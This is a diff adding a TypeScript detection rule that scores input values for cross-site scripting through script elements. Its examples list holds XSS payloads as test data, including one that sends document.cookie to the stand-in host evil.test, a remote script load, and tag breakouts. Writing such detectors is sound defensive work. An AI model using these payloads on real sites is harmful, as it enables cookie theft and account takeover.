@@ -1,0 +1,139 @@
+import { charClass, isAlnum } from '../../text/char-class.ts';
+import { type HtmlTag, html } from '../../tokenise/html.ts';
+import {
+  isAdjacent,
+  isQuote,
+  kindAt,
+  type ScriptTokens,
+  script,
+  scriptKind,
+  tokenIndexAt,
+  wordAt,
+} from '../../tokenise/script.ts';
+import type { Match, ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { findAttribute, followsBreakout } from './markup.ts';
+import { isProse, strongestScript } from './script-judge.ts';
+import { keywords } from './vocabulary.ts';
+
+/** `<script>…`, `<svg:script href=…>`. */
+export const scriptElement: ValueRule = {
+  id: 'xss.script-element',
+  category: 'xss',
+  cwe: 'CWE-79',
+  severity: 'critical',
+  score: 95,
+  message: 'starts a script element that the browser of whoever sees the value will run',
+  trigger: { classes: charClass.less, literals: [['script']] },
+  judge: judgeScriptElement,
+  examples: [
+    '<script>alert(1)</script>',
+    'Nice page!<ScRiPt\n>top.location="//evil.test/"+document.cookie</sCrIpT>',
+    '"><script src=//evil.test/x.js>',
+    "<svg><script xlink:href='data:,steal()'></script></svg>",
+    '</title><script>a=/x/.source',
+  ],
+  lookalikes: [
+    'Put your code between <script> and </script>, near the end of the page.',
+    'The <script> tag (see chapter 4) has an async attribute.',
+    'manuscript <p>The script was <b>great</b>.</p>',
+    'if (count<scripts.length && total > 0) run the next one',
+  ],
+};
+
+const sourceAttributes = ['src', 'href', 'xlink:href', 'x:href'];
+
+/** Characters of the element that are shown as evidence. */
+const evidenceChars = 80;
+
+function judgeScriptElement(subject: Subject): Match | undefined {
+  const { text } = subject;
+  const tokens = subject.tokens(html);
+  if (!tokens.isComplete) subject.incomplete('tokens');
+  let best: Match | undefined;
+  for (const tag of tokens.tags) {
+    if (!isScriptName(tag.name)) continue;
+    if (tag.isEndTag && best !== undefined) continue;
+    const score = tag.isEndTag ? scoreOfEnd(subject, tag) : scoreOf(subject, tag);
+    if (score <= (best?.score ?? 0)) continue;
+    const end = Math.max(tag.end, Math.min(tag.contentEnd, tag.start + evidenceChars));
+    best = { start: tag.start, end: Math.min(end, text.length), score };
+    if (score >= 95) break;
+  }
+  return best;
+}
+
+function scoreOf(subject: Subject, tag: HtmlTag): number {
+  const { text } = subject;
+  if (tag.name !== 'script') return 75;
+  if (sourceAttributes.some((name) => findAttribute(tag, name) !== undefined)) return 95;
+  const isBreakout = followsBreakout(text, tag.start);
+  if (!tag.isClosed && tag.contentEnd >= text.length) return isBreakout ? 80 : 50;
+  const tokens = subject.tokens(script);
+  const first = tokenIndexAt(tokens, tag.end);
+  const last = tokenIndexAt(tokens, tag.contentEnd);
+  if (isNothing(tokens, first, last)) {
+    const isComment = tag.contentEnd - tag.end > 4 && first === last;
+    return isBreakout || (isComment && tag.contentEnd < text.length) ? 75 : 50;
+  }
+  const { strength } = strongestScript(tokens, tag.end, tag.contentEnd);
+  if (startsAsProse(tokens, first, last)) {
+    if (strength >= 3) return 80;
+    return isBreakout && !isSentenceMark(tokens, first) ? 75 : 40;
+  }
+  if (strength >= 1) return 97;
+  const isEnded = tag.contentEnd < text.length;
+  return isEnded || isBreakout || hasOperator(tokens, first, last) ? 90 : 60;
+}
+
+/** `script`, also with rubbish behind it that an old parser or a filter drops; no `script-loader`. */
+function isScriptName(name: string): boolean {
+  if (name === 'script') return true;
+  if (!name.startsWith('script')) return false;
+  const next = name.charCodeAt(6);
+  return !isAlnum(next) && next !== 45 && next !== 95;
+}
+
+/** An end tag without its start tag closes the script that the value lands in. */
+function scoreOfEnd(subject: Subject, tag: HtmlTag): number {
+  const tokens = subject.tokens(script);
+  const last = kindAt(tokens, tokenIndexAt(tokens, tag.start) - 1);
+  const endsCode = last === 59 || last === 41 || last === 125 || last === 34 || last === 39;
+  if (endsCode && tag.start > 0) return 78;
+  const { strength } = strongestScript(tokens, 0, tag.start);
+  return strength >= 2 && !isProse(tokens) ? 78 : 45;
+}
+
+/** No content, or just dots that stand for some. */
+function isNothing(tokens: ScriptTokens, first: number, last: number): boolean {
+  for (let i = first; i < last && i < first + 8; i++) {
+    const kind = kindAt(tokens, i);
+    if (kind !== 46 && kind !== 0x2026 && kind !== 60) return false;
+  }
+  return last - first < 8;
+}
+
+/** Two plain words, or one word with a comma, full stop or bracket as in a sentence. */
+function startsAsProse(tokens: ScriptTokens, first: number, last: number): boolean {
+  if (kindAt(tokens, first) !== scriptKind.word) return isSentenceMark(tokens, first);
+  if (isAdjacent(tokens, first) || keywords.has(wordAt(tokens, first))) return false;
+  if (first + 1 >= last) return true;
+  const next = kindAt(tokens, first + 1);
+  if (next === scriptKind.word) return !keywords.has(wordAt(tokens, first + 1));
+  return !isAdjacent(tokens, first + 1) && next === 40;
+}
+
+/** `<script>, …`, `<script>. Then`, `"<script>" is`: what no script begins with. */
+function isSentenceMark(tokens: ScriptTokens, at: number): boolean {
+  const kind = kindAt(tokens, at);
+  const isMark = kind === 44 || kind === 46 || kind === 58 || kind === 41 || isQuote(kind);
+  return isMark && isAdjacent(tokens, at) && !isAdjacent(tokens, at + 1);
+}
+
+function hasOperator(tokens: ScriptTokens, first: number, last: number): boolean {
+  for (let i = first; i < last && i < first + 12; i++) {
+    const kind = kindAt(tokens, i);
+    if (kind === 61 || kind === 40 || kind === 59 || kind === 91 || kind === 96) return true;
+  }
+  return false;
+}
